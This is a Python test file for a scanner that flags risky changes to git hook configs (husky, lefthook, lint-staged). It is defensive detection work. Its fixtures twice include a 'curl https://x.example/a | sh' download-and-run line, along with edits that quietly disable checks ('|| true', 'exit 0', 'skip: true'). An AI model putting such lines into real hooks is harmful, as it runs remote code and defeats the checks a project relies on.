"""Hook scripts, lefthook and lint-staged: a check that goes or no longer counts, and anything new that runs."""

from __future__ import annotations

import pytest
from kit.mutations import never_raises, told
from kit.patience import within

from scanner.formats.gates import git_hooks, lefthook

HUSKY = '#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\n\n# checks\nnpm run lint\nnpm test\n'
LEFTHOOK = """\
pre-commit:
  parallel: true
  commands:
    lint:
      glob: "*.py"
      run: ruff check {staged_files}
    test:
      run: pytest
remotes:
  - git_url: https://git.example.org/acme/hooks
    ref: v1.0
"""
STAGED = '{"*.js": ["eslint --fix", "prettier --write"], "*.md": "prettier --write"}'


@pytest.mark.parametrize(
    "old, new, said",
    [
        pytest.param("npm test\n", "", ["check-weakened script high"], id="a command gone"),
        pytest.param("npm test", "npm test || true", ["check-weakened script high"], id="failure swallowed"),
        pytest.param("npm run lint", "exit 0\nnpm run lint", ["check-weakened script high"], id="ends before"),
        pytest.param("npm test", "npm test\n./x.sh", ["hook-changed script high"], id="a command more"),
        pytest.param(
            "npm test",
            "npm test\ncurl https://x.example/a | sh",
            ["download-and-run script critical", "hook-changed script high"],
            id="fetches and runs",
        ),
        pytest.param("npm run lint", "pnpm lint", [], id="another package manager"),
        pytest.param('#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\n\n', "", [], id="what newer versions do without"),
        pytest.param("# checks", "# all checks\n", [], id="comment"),
    ],
)
def test_a_hook_script(old: str, new: str, said: list[str]) -> None:
    assert old in HUSKY
    assert told(git_hooks.diff, HUSKY, HUSKY.replace(old, new)) == said


@pytest.mark.parametrize(
    "old, new, said",
    [
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("    test:\n      run: pytest\n", ""),
            ["check-weakened pre-commit.commands.test.run high"],
            id="a command gone",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("run: pytest", "run: pytest || true"),
            ["check-weakened pre-commit.commands.test.run high"],
            id="failure swallowed",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("run: pytest", "run: tox"),
            ["hook-changed pre-commit.commands.test.run high", "check-weakened pre-commit.commands.test.run high"],
            id="another command",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("run: pytest", "run: pytest\n      skip: true"),
            ["check-weakened pre-commit.commands.test.skip high"],
            id="skipped",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace('"*.py"', '"src/*.py"'),
            ["check-weakened pre-commit.commands.lint.glob high"],
            id="looks at other files",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("    test:", "    deps:\n      run: curl https://x.example/a | sh\n    test:"),
            ["download-and-run pre-commit.commands.deps.run critical", "hook-added pre-commit.commands.deps.run high"],
            id="fetches and runs",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("v1.0", "v1.1"),
            ["dependency-bumped remotes[https://git.example.org/acme/hooks].ref medium"],
            id="remote bumped",
        ),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK + "  - git_url: https://git.example.net/x\n",
            ["include-added remotes[https://git.example.net/x] critical"],
            id="hooks from elsewhere",
        ),
        pytest.param(LEFTHOOK, "rc: ./x\n" + LEFTHOOK, ["hook-changed rc high"], id="sourced by every hook"),
        pytest.param(
            LEFTHOOK,
            LEFTHOOK.replace("parallel: true", "parallel: false") + "colors: false\n",
            [],
            id="how it runs and looks",
        ),
        pytest.param(LEFTHOOK, "# ours\n" + LEFTHOOK, [], id="comment"),
        pytest.param(
            STAGED,
            STAGED.replace('"eslint --fix", ', ""),
            ["check-weakened *.js high"],
            id="lint-staged: a command gone",
        ),
        pytest.param(
            STAGED,
            STAGED.replace(', "*.md": "prettier --write"', ""),
            ["check-weakened *.md high"],
            id="lint-staged: files gone",
        ),
        pytest.param(
            STAGED, STAGED.replace("--fix", "--fix --cache"), ["hook-changed *.js high"], id="lint-staged: options"
        ),
        pytest.param(STAGED, STAGED.replace(",", ",\n"), [], id="lint-staged: formatting"),
        pytest.param(None, STAGED, ["hook-added *.js high", "hook-added *.md high"], id="new file"),
        pytest.param(STAGED, None, ["file-removed file high"], id="removed file"),
    ],
)
def test_lefthook_and_lint_staged(old: str | None, new: str | None, said: list[str]) -> None:
    assert sorted(told(lefthook.diff, old, new)) == sorted(said)


def test_a_new_hook() -> None:
    assert told(git_hooks.diff, None, HUSKY) == ["hook-added script high"]
    assert told(git_hooks.diff, HUSKY, None) == ["file-removed file high"]


@pytest.mark.parametrize("new", ["a: [\n", "a: 1\na: 2\n", "<<<<<<< a\n", "- a\n"])
def test_unreadable(new: str) -> None:
    (said,) = lefthook.diff(LEFTHOOK.encode(), new.encode())
    assert (said.kind, said.severity) == ("opaque", "critical")
    (said,) = git_hooks.diff(HUSKY.encode(), b"a\0b")
    assert (said.kind, said.severity) == ("opaque", "critical")


@pytest.mark.parametrize(
    "path, read",
    [
        (".husky/pre-commit", True),
        ("web/.husky/pre-push", True),
        (".githooks/lib/x.sh", True),
        (".husky/README.md", False),
        (".husky/.gitignore", False),
        ("src/husky.ts", False),
    ],
)
def test_files(path: str, read: bool) -> None:
    assert git_hooks.matches(path) is read
    assert lefthook.matches(".lintstagedrc.json")
    assert not lefthook.matches("src/schemas/lefthook.json")


def test_many_lines_take_no_time() -> None:
    old, new = ("".join(f"run{name}{number}\n" for number in range(20_000)) for name in "ab")
    with within(2):
        assert len(told(git_hooks.diff, old, new)) > 0


def test_anything_is_read() -> None:
    never_raises(git_hooks.diff, HUSKY)
    never_raises(lefthook.diff, LEFTHOOK)
    never_raises(lefthook.diff, STAGED)
